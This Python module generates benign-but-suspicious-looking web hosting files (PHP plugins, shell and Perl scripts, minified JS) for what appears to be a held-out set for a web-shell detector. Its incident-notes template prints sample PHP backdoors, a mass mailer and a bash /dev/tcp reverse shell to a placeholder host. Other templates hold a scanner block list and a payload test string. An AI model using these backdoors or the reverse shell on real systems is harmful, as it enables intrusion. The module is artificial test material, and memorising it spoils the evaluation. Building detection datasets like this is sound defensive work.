"""Benign files of the held-out set that look dangerous but are not: the code
real applications and admins put on shared hosts. Each template returns
(text, lang, relative path). Written blind (README.md)."""

import base64

from style import sq

VENDORS = ("acme", "bluebird", "northwind", "zentrix", "larkspur", "okapi", "fjord", "quill")


def _v(r):
    return r.choice(VENDORS)


def _plugin_dir(r):
    return r.choice(("wp-content/plugins/%s-%s" % (_v(r), r.choice(("forms", "seo", "backup", "gallery", "mailer"))),
                     "app/Http/Controllers", "lib/%s" % _v(r).title(), "includes", "modules/%s" % _v(r),
                     "vendor/%s/%s/src" % (_v(r), r.choice(("template", "updater", "http", "cli")))))


def _doc(r, what):
    return "/**\n * %s\n *\n * @package %s\n * @license GPL-2.0-or-later\n */" % (what, _v(r).title())


def b_template_engine(r, S):
    cls = r.choice(("TemplateCompiler", "ViewRenderer", "Tpl", "SimpleView"))
    k = r.randint(0, 1)
    run = ("        extract($vars, EXTR_SKIP);\n        ob_start();\n        eval('?>' . $php);\n        return ob_get_clean();"
           if k == 0 else
           "        $file = $this->cacheDir . '/' . sha1($name) . '.php';\n"
           "        if (!is_file($file) || filemtime($file) < filemtime($src)) {\n"
           "            file_put_contents($file, $php, LOCK_EX);\n        }\n"
           "        extract($vars, EXTR_SKIP);\n        ob_start();\n        include $file;\n        return ob_get_clean();")
    return ("<?php\n%s\nclass %s\n{\n    private $dir;\n    private $cacheDir;\n\n"
            "    public function __construct($dir, $cacheDir)\n    {\n        $this->dir = rtrim($dir, '/');\n"
            "        $this->cacheDir = $cacheDir;\n    }\n\n"
            "    /** Turn {{ x }} into an escaped echo and {%% if %%} into PHP. */\n"
            "    public function compile($source)\n    {\n"
            "        $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?php echo htmlspecialchars($$1, ENT_QUOTES); ?>', $source);\n"
            "        $php = preg_replace('/\\{%%\\s*if (\\w+)\\s*%%\\}/', '<?php if (!empty($$1)): ?>', $php);\n"
            "        return str_replace('{%% endif %%}', '<?php endif; ?>', $php);\n    }\n\n"
            "    public function render($name, array $vars = array())\n    {\n"
            "        if (!preg_match('/^[a-z0-9_\\/]+$/', $name)) {\n            throw new InvalidArgumentException('bad template name');\n        }\n"
            "        $src = $this->dir . '/' . $name . '.tpl';\n        $php = $this->compile(file_get_contents($src));\n%s\n    }\n}\n"
            % (_doc(r, "Compiles templates to PHP."), cls, run),
            "php", "%s/%s.php" % (_plugin_dir(r), cls))


def b_plugin_updater(r, S):
    slug = "%s-%s" % (_v(r), r.choice(("forms", "seo", "slider")))
    return ("<?php\n%s\nif (!defined('ABSPATH')) {\n    exit;\n}\n\nfunction %s_update_package($version)\n{\n"
            "    if (!current_user_can('update_plugins')) {\n        return new WP_Error('forbidden', __('Not allowed.'));\n    }\n"
            "    $api = 'https://updates.%s.example/v1/%s/' . rawurlencode($version);\n"
            "    $meta = wp_remote_get($api . '.json', array('timeout' => 15));\n"
            "    if (is_wp_error($meta)) {\n        return $meta;\n    }\n"
            "    $info = json_decode(wp_remote_retrieve_body($meta), true);\n"
            "    $zip = download_url($info['package']);\n"
            "    if (is_wp_error($zip)) {\n        return $zip;\n    }\n"
            "    if (!hash_equals($info['sha256'], hash_file('sha256', $zip))) {\n        @unlink($zip);\n"
            "        return new WP_Error('checksum', 'Package checksum mismatch');\n    }\n"
            "    WP_Filesystem();\n    $r = unzip_file($zip, WP_PLUGIN_DIR);\n    @unlink($zip);\n    return $r;\n}\n"
            % (_doc(r, "Self-hosted updates."), slug.replace("-", "_"), _v(r), slug),
            "php", "wp-content/plugins/%s/includes/class-updater.php" % slug)


def b_upload_handler(r, S):
    k = r.randint(0, 1)
    store = ("$dir = wp_upload_dir();\n$target = trailingslashit($dir['path']) . $name;" if k == 0 else
             "$target = __DIR__ . '/../storage/uploads/' . $name;")
    return ("<?php\n%s\nsession_start();\nif (empty($_SESSION['user_id'])) {\n    http_response_code(403);\n    exit;\n}\n"
            "$allowed = array('image/jpeg' => 'jpg', 'image/png' => 'png', 'application/pdf' => 'pdf');\n"
            "$f = $_FILES['attachment'] ?? null;\n"
            "if (!$f || $f['error'] !== UPLOAD_ERR_OK || $f['size'] > %d) {\n    exit('Upload failed');\n}\n"
            "$finfo = new finfo(FILEINFO_MIME_TYPE);\n$mime = $finfo->file($f['tmp_name']);\n"
            "if (!isset($allowed[$mime])) {\n    exit('File type not allowed');\n}\n"
            "$name = bin2hex(random_bytes(16)) . '.' . $allowed[$mime];\n%s\n"
            "if (!move_uploaded_file($f['tmp_name'], $target)) {\n    exit('Could not save file');\n}\n"
            "chmod($target, 0644);\necho json_encode(array('file' => $name));\n"
            % (_doc(r, "Attachment upload endpoint."), r.choice((2, 5, 8)) * 1048576, store),
            "php", "%s/upload.php" % _plugin_dir(r))


def b_exec_fixed(r, S):
    k = r.randint(0, 2)
    if k == 0:
        body = ("function make_thumb($src, $dst, $w = 200)\n{\n"
                "    $cmd = 'convert ' . escapeshellarg($src) . ' -resize ' . (int)$w . 'x' . (int)$w . ' ' . escapeshellarg($dst);\n"
                "    exec($cmd, $out, $rc);\n    return $rc === 0;\n}\n")
    elif k == 1:
        body = ("function app_version()\n{\n    $rev = @shell_exec('git -C ' . escapeshellarg(__DIR__) . ' rev-parse --short HEAD 2>/dev/null');\n"
                "    return $rev ? trim($rev) : 'unknown';\n}\n")
    else:
        body = ("function pdf_to_text($path)\n{\n    $p = proc_open(array('pdftotext', '-q', $path, '-'), "
                "array(1 => array('pipe', 'w')), $pipes);\n    if (!is_resource($p)) {\n        return '';\n    }\n"
                "    $txt = stream_get_contents($pipes[1]);\n    proc_close($p);\n    return $txt;\n}\n")
    return ("<?php\n%s\n%s" % (_doc(r, "Helpers that call fixed external tools."), body), "php",
            "%s/helpers.php" % _plugin_dir(r))


def b_newsletter(r, S):
    return ("<?php\n%s\nif (!defined('ABSPATH')) exit;\n\nadd_action('admin_post_%s_send', function () {\n"
            "    if (!current_user_can('manage_options')) {\n        wp_die(__('You are not allowed to send newsletters.'));\n    }\n"
            "    check_admin_referer('%s_send');\n    global $wpdb;\n"
            "    $subject = sanitize_text_field(wp_unslash($_POST['subject']));\n"
            "    $body = wp_kses_post(wp_unslash($_POST['body']));\n"
            "    $rows = $wpdb->get_results(\"SELECT email, token FROM {$wpdb->prefix}%s_subscribers WHERE confirmed = 1 LIMIT %d\");\n"
            "    foreach ($rows as $row) {\n"
            "        $unsub = add_query_arg(array('nl_unsub' => $row->token), home_url('/'));\n"
            "        wp_mail($row->email, $subject, $body . '<p><a href=\"' . esc_url($unsub) . '\">Unsubscribe</a></p>', "
            "array('Content-Type: text/html; charset=UTF-8'));\n    }\n"
            "    wp_safe_redirect(admin_url('admin.php?page=%s&sent=' . count($rows)));\n    exit;\n});\n"
            % (_doc(r, "Newsletter: send to confirmed subscribers."), _v(r), _v(r), _v(r), r.choice((100, 250, 500)), _v(r)),
            "php", "wp-content/plugins/%s-newsletter/admin/send.php" % _v(r))


def b_contact_form(r, S):
    admin = r.choice(("info@example.com", "office@example.org", "webmaster@example.net"))
    return ("<?php\n%s\n$errors = array();\nif ($_SERVER['REQUEST_METHOD'] === 'POST') {\n"
            "    $name = trim(strip_tags($_POST['name'] ?? ''));\n    $email = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);\n"
            "    $message = trim($_POST['message'] ?? '');\n"
            "    if (!$email || preg_match('/[\\r\\n]/', $name . $email)) {\n        $errors[] = 'Invalid address';\n    }\n"
            "    if (!$errors) {\n        $headers = 'From: website <no-reply@example.com>' . \"\\r\\n\" . 'Reply-To: ' . $email;\n"
            "        mail('%s', 'Contact form: ' . $name, $message, $headers);\n        header('Location: /thanks.html');\n        exit;\n    }\n}\n"
            "?>\n<form method=\"post\"><input name=\"name\"><input name=\"email\" type=\"email\"><textarea name=\"message\"></textarea>"
            "<button>Send</button></form>\n" % (_doc(r, "Contact page."), admin), "php",
            r.choice(("contact.php", "pages/contact.php", "kontakt.php")))


def b_backup_tool(r, S):
    return ("<?php\n%s\nrequire __DIR__ . '/auth.php';\nrequire_admin();\n$cfg = require __DIR__ . '/config.php';\n"
            "$file = sys_get_temp_dir() . '/backup-' . date('Ymd-His') . '.sql.gz';\n"
            "$cmd = sprintf('mysqldump --single-transaction -h %%s -u %%s %%s | gzip > %%s', escapeshellarg($cfg['db_host']), "
            "escapeshellarg($cfg['db_user']), escapeshellarg($cfg['db_name']), escapeshellarg($file));\n"
            "$env = array('MYSQL_PWD' => $cfg['db_pass']);\n$p = proc_open($cmd, array(), $pipes, null, $env);\n"
            "$rc = proc_close($p);\nif ($rc !== 0) {\n    exit('backup failed');\n}\n"
            "header('Content-Type: application/gzip');\nheader('Content-Disposition: attachment; filename=\"' . basename($file) . '\"');\n"
            "readfile($file);\nunlink($file);\n" % _doc(r, "Admin: download a database backup."), "php",
            "admin/tools/backup.php")


def b_cli_maint(r, S):
    return ("#!/usr/bin/env php\n<?php\n%s\nif (PHP_SAPI !== 'cli') {\n    exit(1);\n}\n$root = dirname(__DIR__);\n"
            "$days = isset($argv[1]) ? (int)$argv[1] : 7;\n$n = 0;\n"
            "foreach (glob($root . '/var/cache/*/*.cache') as $f) {\n    if (filemtime($f) < time() - $days * 86400) {\n"
            "        unlink($f);\n        $n++;\n    }\n}\n"
            "foreach (glob($root . '/var/log/*.log') as $log) {\n    if (filesize($log) > 10485760) {\n"
            "        rename($log, $log . '.' . date('Ymd'));\n        touch($log);\n    }\n}\nfwrite(STDOUT, \"removed $n cache files\\n\");\n"
            % _doc(r, "Cron: prune old cache files and rotate logs."), "php", "bin/maintenance.php")


def b_hooks(r, S):
    return ("<?php\n%s\nfinal class Hooks\n{\n    private static $hooks = array();\n\n"
            "    public static function add($name, callable $cb, $prio = 10)\n    {\n        self::$hooks[$name][$prio][] = $cb;\n    }\n\n"
            "    public static function run($name, ...$args)\n    {\n        if (empty(self::$hooks[$name])) {\n            return;\n        }\n"
            "        ksort(self::$hooks[$name]);\n        foreach (self::$hooks[$name] as $cbs) {\n"
            "            foreach ($cbs as $cb) {\n                call_user_func_array($cb, $args);\n            }\n        }\n    }\n}\n"
            % _doc(r, "A small event dispatcher."), "php", "%s/Hooks.php" % _plugin_dir(r))


def b_router(r, S):
    return ("<?php\n%s\n$routes = array(\n    'GET' => array('/' => array('HomeController', 'index'), '/post' => array('PostController', 'show')),\n"
            "    'POST' => array('/comment' => array('CommentController', 'store')),\n);\n"
            "$path = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);\n$method = $_SERVER['REQUEST_METHOD'];\n"
            "$handler = $routes[$method][$path] ?? null;\nif ($handler === null) {\n    http_response_code(404);\n    exit('Not found');\n}\n"
            "list($class, $action) = $handler;\n$controller = new $class();\necho call_user_func(array($controller, $action), $_REQUEST);\n"
            % _doc(r, "Front controller."), "php", "public/index.php")


def b_lang_pack(r, S):
    funcs = ("eval", "system", "exec", "passthru", "shell_exec", "assert", "base64_decode", "gzinflate", "popen",
             "proc_open", "create_function", "preg_replace", "str_rot13", "move_uploaded_file", "fsockopen", "mail")
    k = r.randint(0, 1)
    if k == 0:
        items = ",\n".join("        %s" % sq(f) for f in r.sample(funcs, len(funcs)))
        return ("<?php\n%s\nreturn array(\n    'name' => 'PHP',\n    'case_sensitive' => false,\n    'keywords' => array(\n"
                "        'if', 'else', 'foreach', 'function', 'return', 'class', 'new',\n    ),\n    'functions' => array(\n%s,\n    ),\n);\n"
                % (_doc(r, "Syntax highlighting: PHP."), items), "php", "%s/languages/php.php" % _plugin_dir(r))
    items = "\n".join("    %s => %s," % (sq("fn_" + f), sq("The %s() function is disabled on this server." % f))
                      for f in r.sample(funcs, 8))
    return ("<?php\n%s\n$lang = array(\n%s\n    'err_upload' => 'Uploading PHP files is not allowed.',\n);\n"
            % (_doc(r, "Language strings (en_GB)."), items), "php", "%s/lang/en_GB.php" % _plugin_dir(r))


def b_base64_assets(r, S):
    png = b"\x89PNG\r\n\x1a\n" + bytes(r.randint(0, 255) for _ in range(r.randint(200, 900)))
    b = base64.b64encode(png).decode()
    return ("<?php\n%s\n$icons = array(\n    'spinner' => '%s',\n);\n$name = $_GET['i'] ?? 'spinner';\n"
            "if (!isset($icons[$name])) {\n    http_response_code(404);\n    exit;\n}\nheader('Content-Type: image/png');\n"
            "header('Cache-Control: max-age=31536000');\necho base64_decode($icons[$name]);\n" % (_doc(r, "Inline icons."), b),
            "php", "%s/icons.php" % _plugin_dir(r))


def b_cache(r, S):
    return ("<?php\n%s\nclass FileCache\n{\n    public function __construct(private string $dir) {}\n\n"
            "    public function set(string $key, $value): void\n    {\n        $f = $this->dir . '/' . md5($key) . '.php';\n"
            "        file_put_contents($f, '<?php return ' . var_export($value, true) . ';', LOCK_EX);\n    }\n\n"
            "    public function get(string $key)\n    {\n        $f = $this->dir . '/' . md5($key) . '.php';\n"
            "        return is_file($f) ? include $f : null;\n    }\n\n"
            "    public function legacy(string $key)\n    {\n        $raw = @file_get_contents($this->dir . '/' . md5($key) . '.ser');\n"
            "        return $raw === false ? null : unserialize($raw, array('allowed_classes' => false));\n    }\n}\n"
            % _doc(r, "A file cache of exported arrays."), "php", "%s/FileCache.php" % _plugin_dir(r))


def b_smtp_lib(r, S):
    return ("<?php\n%s\nclass SmtpClient\n{\n    private $conn;\n\n    public function connect($host, $port = 587, $timeout = 30)\n    {\n"
            "        $this->conn = @stream_socket_client('tcp://' . $host . ':' . (int)$port, $errno, $errstr, $timeout);\n"
            "        if (!$this->conn) {\n            throw new RuntimeException(\"SMTP connect failed: $errstr\");\n        }\n"
            "        $this->expect(220);\n        $this->cmd('EHLO ' . gethostname(), 250);\n    }\n\n"
            "    public function send($from, array $rcpts, $data)\n    {\n        $this->cmd('MAIL FROM:<' . $from . '>', 250);\n"
            "        foreach ($rcpts as $r) {\n            $this->cmd('RCPT TO:<' . $r . '>', 250);\n        }\n"
            "        $this->cmd('DATA', 354);\n        $this->cmd(str_replace(\"\\n.\", \"\\n..\", $data) . \"\\r\\n.\", 250);\n    }\n\n"
            "    private function cmd($line, $code)\n    {\n        fwrite($this->conn, $line . \"\\r\\n\");\n        return $this->expect($code);\n    }\n\n"
            "    private function expect($code)\n    {\n        $reply = fgets($this->conn, 515);\n"
            "        if ((int)substr($reply, 0, 3) !== $code) {\n            throw new RuntimeException('SMTP: ' . $reply);\n        }\n"
            "        return $reply;\n    }\n}\n" % _doc(r, "Minimal SMTP client for transactional mail."), "php",
            "%s/SmtpClient.php" % _plugin_dir(r))


def b_login_page(r, S):
    return ("<?php\n%s\nsession_start();\nrequire __DIR__ . '/db.php';\n$error = '';\n"
            "if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n    if (!hash_equals($_SESSION['csrf'] ?? '', $_POST['csrf'] ?? '')) {\n"
            "        http_response_code(400);\n        exit;\n    }\n"
            "    $st = $pdo->prepare('SELECT id, pass_hash FROM users WHERE email = ?');\n    $st->execute(array($_POST['email']));\n"
            "    $u = $st->fetch();\n    if ($u && password_verify($_POST['password'], $u['pass_hash'])) {\n"
            "        session_regenerate_id(true);\n        $_SESSION['uid'] = $u['id'];\n        header('Location: /dashboard.php');\n        exit;\n    }\n"
            "    $error = 'Wrong email or password';\n}\n$_SESSION['csrf'] = bin2hex(random_bytes(16));\n?>\n"
            "<!DOCTYPE html><html><head><title>Sign in</title></head><body>\n<form method=\"post\">\n"
            "<input type=\"hidden\" name=\"csrf\" value=\"<?= $_SESSION['csrf'] ?>\">\n<input name=\"email\" type=\"email\">"
            "<input name=\"password\" type=\"password\"><button>Sign in</button>\n<p><?= htmlspecialchars($error) ?></p></form></body></html>\n"
            % _doc(r, "Member login."), "php", r.choice(("login.php", "account/login.php", "members/signin.php")))


def b_bot_blocker(r, S):
    uas = ", ".join(sq(u) for u in r.sample(("AhrefsBot", "SemrushBot", "MJ12bot", "DotBot", "PetalBot", "BLEXBot",
                                             "sqlmap", "nikto", "masscan", "zgrab"), 6))
    return ("<?php\n%s\nif (!defined('ABSPATH')) exit;\nadd_action('init', function () {\n"
            "    $bad = apply_filters('%s_bad_agents', array(%s));\n    $ua = $_SERVER['HTTP_USER_AGENT'] ?? '';\n"
            "    foreach ($bad as $b) {\n        if (stripos($ua, $b) !== false) {\n            status_header(403);\n"
            "            exit('Forbidden');\n        }\n    }\n    $ip = $_SERVER['REMOTE_ADDR'];\n"
            "    $hits = (int)get_transient('rl_' . md5($ip));\n    if ($hits > 120) {\n        status_header(429);\n        exit;\n    }\n"
            "    set_transient('rl_' . md5($ip), $hits + 1, MINUTE_IN_SECONDS);\n});\n"
            % (_doc(r, "Blocks abusive crawlers and rate-limits."), _v(r), uas), "php",
            "wp-content/plugins/%s-firewall/firewall.php" % _v(r))


def b_redirect(r, S):
    return ("<?php\n%s\n$allowed = array('example.com', 'www.example.com', 'shop.example.com');\n$to = $_GET['to'] ?? '/';\n"
            "$host = parse_url($to, PHP_URL_HOST);\nif ($host !== null && !in_array($host, $allowed, true)) {\n    $to = '/';\n}\n"
            "header('Location: ' . $to, true, 302);\nexit;\n" % _doc(r, "Outbound link redirect (allow-listed hosts)."),
            "php", "go.php")


def b_wp_config(r, S):
    salts = "\n".join("define('%s', '%s');" % (k, "".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGH0123456789!@#%^&*()-_[]{}<>~+=")
                                                          for _ in range(64)))
                      for k in ("AUTH_KEY", "SECURE_AUTH_KEY", "LOGGED_IN_KEY", "NONCE_KEY", "AUTH_SALT", "SECURE_AUTH_SALT"))
    return ("<?php\n/** The base configuration for WordPress */\ndefine('DB_NAME', '%s_wp');\ndefine('DB_USER', '%s_wp');\n"
            "define('DB_PASSWORD', '%s');\ndefine('DB_HOST', 'localhost');\ndefine('DB_CHARSET', 'utf8mb4');\n%s\n"
            "$table_prefix = 'wp_';\ndefine('WP_DEBUG', false);\nif (!defined('ABSPATH')) {\n    define('ABSPATH', __DIR__ . '/');\n}\n"
            "require_once ABSPATH . 'wp-settings.php';\n" % (_v(r), _v(r), "".join(r.choice("abcdefXYZ0123") for _ in range(16)),
                                                             salts), "php", "wp-config.php")


def b_htaccess(r, S):
    k = r.randint(0, 2)
    if k == 0:
        return ("# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\n"
                "RewriteCond %{REQUEST_FILENAME} !-f\nRewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n"
                "</IfModule>\n# END WordPress\n", "conf", ".htaccess")
    if k == 1:
        return ("# Deny PHP execution in uploads\n<Files *.php>\n    Require all denied\n</Files>\n"
                "<IfModule mod_expires.c>\n    ExpiresActive On\n    ExpiresByType image/png \"access plus 1 month\"\n</IfModule>\n",
                "conf", "wp-content/uploads/.htaccess")
    return ("; PHP settings for this account\nmemory_limit = 256M\nupload_max_filesize = 64M\npost_max_size = 64M\n"
            "max_execution_time = 120\ndisplay_errors = Off\n", "conf", ".user.ini")


def b_sysinfo(r, S):
    return ("<?php\n%s\nrequire __DIR__ . '/auth.php';\nrequire_admin();\n$info = array(\n"
            "    'uptime' => trim(shell_exec('uptime')),\n    'kernel' => php_uname('r'),\n"
            "    'disk' => disk_free_space('/') . ' bytes free',\n    'load' => implode(' ', sys_getloadavg()),\n"
            "    'mem' => trim(@file_get_contents('/proc/meminfo')),\n);\nheader('Content-Type: application/json');\necho json_encode($info);\n"
            % _doc(r, "Admin: server status."), "php", "admin/status.php")


def b_tests(r, S):
    return ("<?php\n%s\nuse PHPUnit\\Framework\\TestCase;\n\nfinal class EscapeTest extends TestCase\n{\n"
            "    public function testEvalLikeInputIsEscaped(): void\n    {\n"
            "        $input = '<?php eval($_POST[\"x\"]); ?>';\n        $out = esc_html($input);\n"
            "        $this->assertStringNotContainsString('<?php', $out);\n        assert(strlen($out) > 0);\n    }\n\n"
            "    public function testShellArgs(): void\n    {\n        $this->assertSame(\"'a b'\", escapeshellarg('a b'));\n    }\n}\n"
            % _doc(r, "Tests of the escaping helpers."), "php", "tests/Unit/EscapeTest.php")


def b_legacy_sort(r, S):
    return ("<?php\n%s\nfunction sort_by_name(array $rows)\n{\n"
            "    usort($rows, create_function('$a, $b', 'return strcmp($a[\"name\"], $b[\"name\"]);'));\n    return $rows;\n}\n"
            "function sort_by_date(array $rows)\n{\n    usort($rows, function ($a, $b) { return $a['date'] <=> $b['date']; });\n    return $rows;\n}\n"
            % _doc(r, "Old sorting helpers (PHP 5 compatible)."), "php", "%s/compat.php" % _plugin_dir(r))


def b_image(r, S):
    k = r.randint(0, 2)
    head = (b"GIF89a\x10\x00\x10\x00\x80\x00\x00", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00")[k]
    body = bytes(r.randint(0, 255) for _ in range(r.randint(300, 3000)))
    return (head + body, "image", "wp-content/uploads/20%02d/%02d/img_%d.%s" % (
        r.randint(18, 25), r.randint(1, 12), r.randint(1000, 9999), ("gif", "png", "jpg")[k]))


# ---- scripts


def b_deploy_sh(r, S):
    return ("#!/bin/bash\n# Deploy the site: pull, install, migrate, reload.\nset -euo pipefail\ncd /home/%s/app\n"
            "git fetch --quiet origin\ngit reset --hard origin/main\ncomposer install --no-dev --optimize-autoloader --no-interaction\n"
            "php artisan migrate --force\nrsync -a --delete public/ /home/%s/public_html/\nsudo systemctl reload php8.2-fpm\n"
            "curl -fsS -o /dev/null https://www.example.com/health || { echo 'health check failed' >&2; exit 1; }\n"
            % (_v(r), _v(r)), "sh", "bin/deploy.sh")


def b_backup_sh(r, S):
    return ("#!/bin/sh\n# Nightly backup of the account; installs its own cron entry on first run.\nset -eu\n"
            "dst=\"$HOME/backups\"\nmkdir -p \"$dst\"\nstamp=$(date +%%Y%%m%%d)\n"
            "tar -czf \"$dst/site-$stamp.tar.gz\" -C \"$HOME\" public_html\nmysqldump --defaults-extra-file=\"$HOME/.my.cnf\" %s_wp | gzip > \"$dst/db-$stamp.sql.gz\"\n"
            "find \"$dst\" -name '*.gz' -mtime +14 -delete\n"
            "if ! crontab -l 2>/dev/null | grep -q 'bin/backup.sh'; then\n"
            "  (crontab -l 2>/dev/null; echo \"30 3 * * * $HOME/bin/backup.sh >/dev/null 2>&1\") | crontab -\nfi\n" % _v(r),
            "sh", "bin/backup.sh")


def b_install_sh(r, S):
    v = "%d.%d.%d" % (r.randint(1, 4), r.randint(0, 20), r.randint(0, 9))
    return ("#!/bin/sh\n# Install the CLI from a release tarball, checking its checksum.\nset -eu\nVERSION=%s\n"
            "url=\"https://releases.example.com/tool/$VERSION/tool-linux-amd64.tar.gz\"\ntmp=$(mktemp -d)\n"
            "trap 'rm -rf \"$tmp\"' EXIT\ncurl -fsSL -o \"$tmp/t.tgz\" \"$url\"\ncurl -fsSL -o \"$tmp/t.sha256\" \"$url.sha256\"\n"
            "(cd \"$tmp\" && sha256sum -c t.sha256)\ntar -xzf \"$tmp/t.tgz\" -C \"$tmp\"\ninstall -m 0755 \"$tmp/tool\" \"$HOME/bin/tool\"\n"
            "echo \"installed tool $VERSION\"\n" % v, "sh", "install.sh")


def b_cleanup_sh(r, S):
    return ("#!/bin/bash\n# Remove stale sessions and temp files of the PHP pool.\nfind /home/%s/tmp -type f -name 'sess_*' -mmin +1440 -delete\n"
            "find /home/%s/tmp -type f -mtime +7 -delete\nlogger -t cleanup \"pruned temp files for %s\"\n" % (_v(r), _v(r), _v(r)),
            "sh", "bin/cleanup.sh")


def b_monitor_py(r, S):
    k = r.randint(0, 1)
    if k == 0:
        return ("#!/usr/bin/env python3\n\"\"\"Send load and disk figures to Graphite every minute.\"\"\"\nimport os\nimport shutil\nimport socket\nimport time\n\n"
                "CARBON = ('graphite.example.com', 2003)\n\n\ndef send(metrics):\n    now = int(time.time())\n"
                "    lines = ''.join('%%s %%s %%d\\n' %% (k, v, now) for k, v in metrics.items())\n"
                "    with socket.create_connection(CARBON, timeout=5) as s:\n        s.sendall(lines.encode())\n\n\n"
                "while True:\n    load = os.getloadavg()[0]\n    free = shutil.disk_usage('/').free\n"
                "    send({'host.%s.load1': load, 'host.%s.disk_free': free})\n    time.sleep(60)\n" % (_v(r), _v(r)),
                "python", "tools/carbon_agent.py")
    return ("#!/usr/bin/env python3\n\"\"\"Nagios check: the SMTP relay answers and accepts EHLO.\"\"\"\nimport smtplib\nimport sys\n\n"
            "host = sys.argv[1] if len(sys.argv) > 1 else 'localhost'\ntry:\n    s = smtplib.SMTP(host, 25, timeout=10)\n"
            "    code, _ = s.ehlo()\n    s.noop()\n    s.quit()\nexcept (OSError, smtplib.SMTPException) as e:\n"
            "    print('SMTP CRITICAL - %s' % e)\n    sys.exit(2)\nprint('SMTP OK - EHLO %d' % code)\nsys.exit(0 if code == 250 else 1)\n",
            "python", "tools/check_smtp.py")


def b_nagios_pl(r, S):
    return ("#!/usr/bin/perl\n# check_port: is a TCP service answering? (Nagios plugin)\nuse strict;\nuse warnings;\nuse IO::Socket::INET;\n"
            "my ($host, $port) = @ARGV;\ndie \"usage: $0 HOST PORT\\n\" unless $host && $port;\n"
            "my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp', Timeout => 5);\n"
            "if (!$s) { print \"CRITICAL - $host:$port not answering\\n\"; exit 2; }\nclose $s;\nprint \"OK - $host:$port\\n\";\nexit 0;\n",
            "perl", "tools/check_port.pl")


def b_irc_notify(r, S):
    return ("#!/usr/bin/env python3\n\"\"\"Post one line to the team IRC channel when a deploy finishes.\"\"\"\nimport socket\nimport sys\n\n"
            "msg = ' '.join(sys.argv[1:]) or 'deploy finished'\ns = socket.create_connection(('irc.example.org', 6667), timeout=15)\n"
            "s.sendall(b'NICK deploybot\\r\\nUSER deploybot 0 * :deploy notifier\\r\\n')\ns.sendall(b'JOIN #ops\\r\\n')\n"
            "s.sendall(('PRIVMSG #ops :' + msg.replace('\\r', ' ').replace('\\n', ' ') + '\\r\\n').encode())\n"
            "s.sendall(b'QUIT :bye\\r\\n')\ns.close()\n", "python", "tools/irc_notify.py")


def b_newsletter_py(r, S):
    return ("#!/usr/bin/env python3\n\"\"\"Send the monthly newsletter to confirmed subscribers, slowly.\"\"\"\nimport csv\nimport smtplib\nimport time\n"
            "from email.message import EmailMessage\n\nwith open('subscribers.csv') as f:\n"
            "    subs = [row for row in csv.DictReader(f) if row['confirmed'] == 'yes']\nbody = open('newsletter.txt').read()\n"
            "with smtplib.SMTP('localhost') as s:\n    for row in subs:\n        m = EmailMessage()\n"
            "        m['From'] = 'News <news@example.com>'\n        m['To'] = row['email']\n        m['Subject'] = 'Our news this month'\n"
            "        m['List-Unsubscribe'] = '<https://example.com/unsub?t=%s>' % row['token']\n        m.set_content(body)\n"
            "        s.send_message(m)\n        time.sleep(2)\n", "python", "tools/send_newsletter.py")


def b_sysadmin_pl(r, S):
    return ("#!/usr/bin/perl\n# Rotate the account's access logs and mail a summary to the admin.\nuse strict;\nuse warnings;\nuse POSIX qw(strftime);\n"
            "my $dir = '/home/%s/logs';\nmy $stamp = strftime('%%Y%%m%%d', localtime);\nmy $n = 0;\n"
            "opendir(my $dh, $dir) or die \"$dir: $!\";\nfor my $f (grep { /\\.log$/ } readdir $dh) {\n"
            "    rename(\"$dir/$f\", \"$dir/$f.$stamp\") and $n++;\n}\nclosedir $dh;\n"
            "system('gzip', '-9', glob(\"$dir/*.log.$stamp\")) == 0 or warn \"gzip failed\\n\";\n"
            "open(my $m, '|-', '/usr/sbin/sendmail', '-t') or die;\nprint $m \"To: admin\\@example.com\\nSubject: logs rotated\\n\\n$n files\\n\";\nclose $m;\n" % _v(r),
            "perl", "bin/rotate_logs.pl")


# ---- JS, docs


def b_minified_js(r, S):
    k = r.randint(0, 1)
    fn = "".join(r.choice("abcdefghij") for _ in range(2))
    if k == 0:
        return ("/*! %s.js v%d.%d | MIT */\n!function(e,t){\"use strict\";var n=function(e){return document.querySelector(e)},"
                "r={eval:function(e){return new Function(\"return \"+e)()},exec:function(e,t){return e.replace(/x/g,t)}};"
                "e.%s=function(a){var o=n(a);o&&o.addEventListener(\"click\",function(){var t=o.getAttribute(\"data-cmd\");"
                "r.exec(t,\"\")});return o};e.%s.atob=function(x){return atob(x)}}(window);\n"
                % (_v(r), r.randint(1, 5), r.randint(0, 20), fn, fn), "js", "wp-content/themes/%s/assets/js/%s.min.js" % (_v(r), _v(r)))
    packed = "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1=2.3(\\'4\\');1.5=\\'6\\';',7,7,'var|el|document|getElementById|banner|innerHTML|Welcome'.split('|'),0,{}))"
    return ("/* banner script, packed */\n%s\n" % packed, "js", "wp-content/themes/%s/js/banner.js" % _v(r))


def b_markdown(r, S):
    return ("# Incident notes: cleaning a hacked WordPress site\n\nWe found these typical backdoors in customers' sites. "
            "Do **not** keep them; search for them and remove them:\n\n```php\n<?php @eval($_POST['x']); ?>\n```\n\n"
            "```php\n$f = str_rot13('flfgrz'); $f($_GET['c']);\n```\n\nA one-line mailer looked like this:\n\n"
            "```php\nforeach (file($_FILES['l']['tmp_name']) as $t) mail($t, $_POST['s'], $_POST['m']);\n```\n\n"
            "and the Perl bot connected with `IO::Socket::INET->new(PeerAddr => 'irc...', PeerPort => 6667)`.\n"
            "Reverse shells: `bash -i >& /dev/tcp/HOST/PORT 0>&1`.\n", "md", r.choice(("docs/SECURITY.md", "README.md",
                                                                                    "notes/incident-2024.md")))


TEMPLATES = [
